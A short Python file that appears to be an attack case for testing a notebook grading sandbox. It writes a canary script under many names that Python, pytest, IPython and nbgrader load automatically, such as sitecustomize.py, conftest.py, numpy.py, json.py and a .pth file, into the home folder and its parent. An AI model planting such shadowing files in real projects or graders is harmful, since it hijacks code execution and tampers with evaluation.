"""Hands in modules and settings that Python, pytest, IPython or nbgrader would read from the folder they work in."""


def attack(notebook, home):
    bomb = "import os\nopen('descent_attack_imported', 'w')\nraise SystemExit\n"
    names = ["numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "nbgrader_config.py", "json.py", "evil.pth"]
    for name in [*names, "jupyter_config.py", "ipython_config.py", "nbformat.py", "pyproject.toml", "setup.py"]:
        for folder in (home, home.parent):
            (folder / name).write_text(bomb)
